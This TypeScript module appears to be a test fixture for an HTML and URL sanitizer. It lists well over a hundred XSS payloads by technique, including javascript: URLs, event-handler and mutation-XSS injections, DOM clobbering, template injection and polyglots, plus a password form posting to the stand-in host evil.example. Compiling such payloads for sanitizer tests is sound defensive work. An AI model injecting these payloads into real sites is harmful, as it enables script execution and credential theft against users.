/** Injected content tries to contact this host; no request may reach it. */
export const EVIL = 'https://evil.example'

/** A payload that marks the window when it runs. */
const RUN = 'window.ran=1'

/** URLs that must not be followed, shown or requested, by technique. */
export const badAddresses: Readonly<Record<string, string>> = {
  'a script': `javascript:${RUN}`,
  'a script in capitals': `JaVaScRiPt:${RUN}`,
  'a script after blanks': ` \t\n javascript:${RUN}`,
  'a script after a control character': `\u0001javascript:${RUN}`,
  'a script with a tab within': `java\tscript:${RUN}`,
  'a script with line ends within': `java\r\nscript:${RUN}`,
  'a script with a NUL within': `java\0script:${RUN}`,
  'a script by a comment': `javascript://palpite.example/%0a${RUN}`,
  'a script with marks of HTML': `javascript:'<script>${RUN}</script>'`,
  'a script of another language': `vbscript:${RUN}`,
  'a script for older browsers': `livescript:${RUN}`,
  'a document as data': `data:text/html,<script>${RUN}</script>`,
  'a document as data, coded': 'data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=',
  'a drawing as data': `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  'a script as data': `data:text/javascript,${RUN}`,
  'a blob': 'blob:null/00000000-0000-4000-8000-000000000000',
  'a file': 'file:///etc/passwd',
  'a source': `view-source:javascript:${RUN}`,
  'a filesystem': 'filesystem:https://palpite.example/temporary/a.html',
  'an intent of a phone': 'intent://evil.example/#Intent;scheme=https;end',
  'another host without a scheme': '//evil.example/',
  'another host behind a backslash': '/\\evil.example/',
  'another host behind backslashes': '\\\\evil.example\\',
  'another host behind a tab': '/\t/evil.example/',
  'another host behind a name': 'https://palpite.example@evil.example/',
  'another host behind an unsafe scheme': 'http://evil.example/',
  'a way up out of a folder': '/promotions/../../..//evil.example/',
  'a query that asks for a script': `/login?next=javascript:${RUN}`,
  'a query that names another host': '/login?next=//evil.example/',
  'an end of the attribute': `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  'an end of the attribute in single quotes': `' onmouseover='${RUN}' x='`,
  'an end of the element': `"><script>${RUN}</script>`,
  'an end of a style': `x);background:url(${EVIL}/style)`,
}

const ofAddresses = Object.fromEntries(
  Object.entries(badAddresses).map(([what, address]) => {
    const value = address.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
    return [`a link that leads to ${what}`, `<a href="${value}">here</a>`]
  }),
)

/** HTML that must have no effect, by technique. */
export const injections: Readonly<Record<string, string>> = {
  // Scripts.
  'a script': `<script>${RUN}</script>`,
  'a script in mixed case': `<ScRiPt>${RUN}</sCrIpT>`,
  'a script with a slash for a blank': `<script/x>${RUN}</script>`,
  'a script that is not ended': `<script>${RUN}`,
  'a script within its own name': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script of another host': `<script src="${EVIL}/script.js"></script>`,
  'a module of another host': `<script type="module">import "${EVIL}/module.js"</script>`,
  'an import map': `<script type="importmap">{"imports":{"react":"${EVIL}/react.js"}}</script>`,
  'rules of what to fetch beforehand': `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${EVIL}/"]}]}</script>`,
  'the end of a script that stands around it': `</script><script>${RUN}</script>`,
  'the end of a title that stands around it': `</title><script>${RUN}</script>`,
  'the end of a text field that stands around it': `</textarea><img src=x onerror=${RUN}>`,
  'the end of a comment that stands around it': `--><img src=x onerror=${RUN}>`,
  'the end of a part of XML': `]]><img src=x onerror=${RUN}>`,

  // Event handlers.
  'a picture that fails': `<img src=x onerror=${RUN}>`,
  'a picture that fails, in quotes': `<img src="x" onerror="${RUN}">`,
  'a picture that fails, in accents': `<img src=\`x\` onerror=\`${RUN}\`>`,
  'a picture with slashes for blanks': `<img/src=x/onerror=${RUN}>`,
  'a picture with a form feed for a blank': `<img\fsrc=x\fonerror=${RUN}>`,
  'a picture with line ends for blanks': `<img\nsrc=x\nonerror\n=\n${RUN}>`,
  'a picture whose handler is of entities': `<img src=x onerror="&#119;indow.r&#x61;n&equals;1">`,
  'a picture that is not ended': `<img src=x onerror=${RUN} `,
  'a picture by its old name': `<image src=x onerror=${RUN}>`,
  'a picture behind a quote': `"><img src=x onerror=${RUN}>`,
  'a picture behind a tag with quotes': `<p title="</p><img src=x onerror=${RUN}>">`,
  'a picture of sources': `<picture><source srcset="${EVIL}/source.png"><img src=x onerror=${RUN}></picture>`,
  'a picture of a set': `<img srcset="${EVIL}/one.png 1x, ${EVIL}/two.png 2x" onerror=${RUN}>`,
  'a word that is focused by itself': `<p tabindex=0 autofocus onfocus=${RUN}>words</p>`,
  'a field that is focused by itself': `<input autofocus onfocus=${RUN}>`,
  'a choice that is focused by itself': `<select autofocus onfocus=${RUN}></select>`,
  'a text field that is focused by itself': `<textarea autofocus onfocus=${RUN}></textarea>`,
  'words that are edited': `<b contenteditable autofocus onfocus=${RUN}>words</b>`,
  'details that open': `<details open ontoggle=${RUN}><summary>more</summary></details>`,
  'a popover that opens': `<button popovertarget=p>open</button><p id=p popover onbeforetoggle=${RUN}>words</p>`,
  'words that run along': `<marquee onstart=${RUN} loop=1 width=0>words</marquee>`,
  'a body': `<body onload=${RUN} onpageshow=${RUN}>`,
  'a set of frames': `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  'words under a pointer': `<p onpointerenter=${RUN} onmouseover=${RUN} onpointerrawupdate=${RUN}>words</p>`,
  'words that are animated': `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=${RUN} onanimationend=${RUN}>words</p>`,
  'words that change': `<style>p{transition:color 1ms}p:hover{color:red}</style><p ontransitionend=${RUN}>words</p>`,
  'words that come into view': `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${RUN}>words</p>`,
  'a film that fails': `<video src=x onerror=${RUN}><source src=x onerror=${RUN}></video>`,
  'a sound that fails': `<audio src=x onerror=${RUN} autoplay></audio>`,
  'a track of a film': `<video><track default src=x onerror=${RUN}></video>`,
  'a poster of a film': `<video poster="${EVIL}/poster.png"></video>`,
  'a sheet that fails': `<link rel=stylesheet href=x onerror=${RUN}>`,

  // SVG and MathML.
  'a drawing that is loaded': `<svg onload=${RUN}></svg>`,
  'a drawing with slashes': `<svg/onload=${RUN}//`,
  'a script in a drawing': `<svg><script>${RUN}</script></svg>`,
  'a script of a drawing by its link': `<svg><script href="data:text/javascript,${RUN}"></script></svg>`,
  'a script of entities in a drawing': '<svg><script>&#119;indow.ran=1</script></svg>',
  'a drawing that changes its own link': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>here</text></a></svg>`,
  'a drawing that sets a handler': `<svg><set attributeName=onmouseover to="${RUN}" /></svg>`,
  'a drawing that begins': `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  'a drawing that uses another': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x" /></svg>`,
  'a drawing with HTML in it': `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  'a drawing with a picture of another host': `<svg><image href="${EVIL}/image.png" /></svg>`,
  'a drawing with a filter of another host': `<svg><filter><feImage href="${EVIL}/filter.png" /></filter></svg>`,
  'a formula that leads to a script': `<math href="javascript:${RUN}"><mtext>here</mtext></math>`,
  'a formula with a link in it': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">here</maction></math>`,
  'a formula with a note of HTML': `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,

  // Content that changes when parsed twice.
  'a style in a drawing that is read again': `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  'a title in a drawing that is read again': `<svg><title><style><img src=x onerror=${RUN}></style></title></svg>`,
  'a style in a description that is read again': `<svg><desc><![CDATA[</desc><img src=x onerror=${RUN}>]]></svg>`,
  'a mark in a formula that is read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'a comment in a formula that is read again': `<math><mtext><mglyph><style><math><!--</style><img src=x onerror=${RUN}>-->`,
  'forms within forms that are read again': `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${RUN}>"></form>`,
  'words without scripts that are read again': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'words without frames that are read again': `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  'plain words that are read again': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'a frame that is read again': `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  'a template that is read again': `<template><p title="</template><img src=x onerror=${RUN}>"></template>`,
  'a table that throws out what it holds': `<table><p><style><!--</style><img src=x onerror=${RUN}>--></p></table>`,
  'a choice that throws out what it holds': `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  'plain text to the end': `<plaintext><img src=x onerror=${RUN}>`,
  'a comment that ends early': `<!--><img src=x onerror=${RUN}>-->`,
  'a comment that ends with an exclamation': `<!-- --!><img src=x onerror=${RUN}> -->`,
  'a comment of an older browser': `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  'an instruction': `<?xml-stylesheet href="javascript:${RUN}"?><?php echo 1 ?><img src=x onerror=${RUN}>`,
  'a part of XML': `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  'very many elements': `${'<b>'.repeat(600)}<img src=x onerror=${RUN}>`,
  'very many drawings': `${'<svg><desc>'.repeat(300)}<img src=x onerror=${RUN}>`,

  // External resources.
  'a frame with a script': `<iframe src="javascript:${RUN}"></iframe>`,
  'a frame with a document': `<iframe srcdoc="<script>top.ran=1</script>"></iframe>`,
  'a frame with a document of entities': `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.ran=1&quot;&gt;"></iframe>`,
  'a frame of another host': `<iframe src="${EVIL}/frame" onload=${RUN}></iframe>`,
  'a thing with a script': `<object data="javascript:${RUN}"></object>`,
  'a thing with a document': `<object data="data:text/html,<script>parent.ran=1</script>" type="text/html"></object>`,
  'a thing that fails': `<object data=x onerror=${RUN}><param name=movie value="javascript:${RUN}"></object>`,
  'something embedded': `<embed src="javascript:${RUN}" onload=${RUN}>`,
  'something embedded of another host': `<embed src="${EVIL}/embed">`,
  'an applet': `<applet code="javascript:${RUN}"></applet>`,
  'a portal': `<portal src="${EVIL}/portal" onload=${RUN}></portal>`,
  'a fenced frame': `<fencedframe src="${EVIL}/fenced"></fencedframe>`,
  'a sheet of another host': `<link rel=stylesheet href="${EVIL}/sheet.css">`,
  'a page that is fetched beforehand': `<link rel=prefetch href="${EVIL}/prefetch"><link rel=preconnect href="${EVIL}">`,
  'a style that loads': `<style>@import "${EVIL}/import.css"; body{background:url(${EVIL}/background.png)}</style>`,
  'a style of an element that loads': `<p style="background:url(${EVIL}/background.png)">words</p>`,
  'a style that covers the page': '<p style="position:fixed;inset:0;z-index:9999;background:#fff">words</p>',
  'a style of an older browser': `<p style="width:expression(${RUN});behavior:url(#x);-moz-binding:url(${EVIL}/b.xml)">words</p>`,
  'a style with escapes': `<p style="\\62 ackground:u\\72l(javascript:${RUN})">words</p>`,
  'a background of a table': `<table background="${EVIL}/table.png"><td background="javascript:${RUN}">cell</table>`,
  'a picture of another host': `<img src="${EVIL}/picture.png" alt="">`,
  'a picture of another host, by lowered source': `<img lowsrc="${EVIL}/low.png" dynsrc="${EVIL}/dyn.png">`,

  // Navigation and form targets.
  'a base for every address': `<base href="${EVIL}/"><a href="/promotions">here</a>`,
  'a target for every address': '<base target=_top><a href="/promotions">here</a>',
  'a refresh': `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  'a refresh by a script': `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  'a policy of its own': `<meta http-equiv=Content-Security-Policy content="script-src 'none'">`,
  'a cookie': '<meta http-equiv=set-cookie content="token=stolen">',
  'a form': `<form action="${EVIL}/form"><input name=password><button>send</button></form>`,
  'a form with a script': `<form action="javascript:${RUN}"><button autofocus>send</button></form>`,
  'a button with an address of its own': `<form id=f></form><button form=f formaction="javascript:${RUN}">send</button>`,
  'a picture that sends': `<form><input type=image src=x formaction="javascript:${RUN}"></form>`,
  'a form that sends itself': `<form id=f action="${EVIL}/"></form><img src=x onerror=f.submit()>`,
  'a map': `<img usemap=#m src=x><map name=m><area shape=default href="javascript:${RUN}"></map>`,
  'a link that tells elsewhere': `<a href="/promotions" ping="${EVIL}/ping">here</a>`,
  'a link with a name to keep': `<a href="/promotions" target="_blank" rel="opener">here</a>`,
  'a link that downloads': '<a href="/promotions" download="update.exe">here</a>',
  'a link with entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.ran=1">here</a>',
  'a link with entities without ends':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.ran=1">here</a>',
  'a link with named entities': '<a href="java&Tab;script&colon;window&period;ran&equals;1">here</a>',
  'a link with a line end of an entity': '<a href="java&NewLine;script:window.ran=1">here</a>',
  'a link in a namespace': `<a xlink:href="javascript:${RUN}">here</a>`,
  'two links in one': `<a href="/promotions" href="javascript:${RUN}">here</a>`,

  // DOM clobbering.
  'a name of the document’s body': '<a name="body">words</a><a id="body">words</a>',
  'names of the document': '<img name=getElementById><img name=cookie><form name=querySelector></form>',
  'names of the window': '<a id=early></a><a id=ran2></a><a id=trustedTypes></a><a id=installOffer></a>',
  'a form without attributes':
    '<form><input name=attributes><input name=nodeName><input name=parentNode></form>',
  'a form without children':
    '<form id=x><input name=childNodes><input name=removeChild><input name=remove></form>',
  'a collection of names': '<a id=config></a><a id=config name=platform href="https://evil.example/"></a>',
  'the page’s own ids':
    '<p id=boot>{"config":{"platform":"https://evil.example"}}</p><p id=content></p><p id=root></p>',
  'a prototype': '<a id=__proto__></a><a name=constructor></a><a id=toString></a>',

  // Custom elements.
  'an element of one’s own': `<x-ran onclick=${RUN} is=x-ran>words</x-ran><b is=x-ran>words</b>`,
  'an element that is unknown': `<xss tabindex=1 autofocus onfocus=${RUN}>words</xss>`,
  'a slot and a shadow': `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div><slot name=x></slot>`,
  'a template': `<template><script>${RUN}</script></template>`,
  'a part of a template': '{{constructor.constructor("window.ran=1")()}}',
  'a part of a template within words':
    "<p>{{7*7}} $\u007b7*7} <%= 7*7 %> #{7*7} [[7*7]] {{'a'.constructor.prototype}}</p>",
  'attributes of libraries': `<p ng-app ng-csp ng-click=$event.view.ran=1 v-html="'x'" x-data x-init="window.ran=1" hx-get="${EVIL}/" hx-trigger=load data-bind="x">words</p>`,

  // Look-alike and bidirectional characters.
  'wide signs': `＜script＞${RUN}＜/script＞＜img src=x onerror=${RUN}＞`,
  'a long s': `<ſcript>${RUN}</ſcript><ımg src=x onerror=${RUN}>`,
  'signs that turn what is read': `\u202e<script>${RUN}</script>\u202c\u2066<img src=x onerror=${RUN}>\u2069`,
  'ends of lines of Unicode': `\u2028<img src=x onerror=${RUN}>\u2029`,
  NULs: `<scr\0ipt>${RUN}</scr\0ipt><im\0g src=x onerror=${RUN}><img src=x one\0rror=${RUN}>`,
  'half a pair': `\ud800<img src=x onerror=${RUN}>\udc00`,
  'a mark of order': `\ufeff<script>${RUN}</script>`,
  'another encoding': '+ADw-script+AD4-window.ran=1+ADw-/script+AD4-',
  'escapes of a script':
    '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e\\x3cimg src=x onerror=window.ran=1\\x3e',
  'escapes of an address':
    '%3Cscript%3Ewindow.ran=1%3C/script%3E%253Cimg%20src%253Dx%2520onerror%253Dwindow.ran%253D1%253E',
  'entities of a script':
    '&lt;script&gt;window.ran=1&lt;/script&gt;&amp;lt;img src=x onerror=window.ran=1&amp;gt;',

  // Polyglot payloads.
  'a text for many places': `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
  'quotes of every kind': `'"\`--></style></script></title></textarea></noscript></template></select><svg/onload=${RUN}>`,

  ...ofAddresses,
}
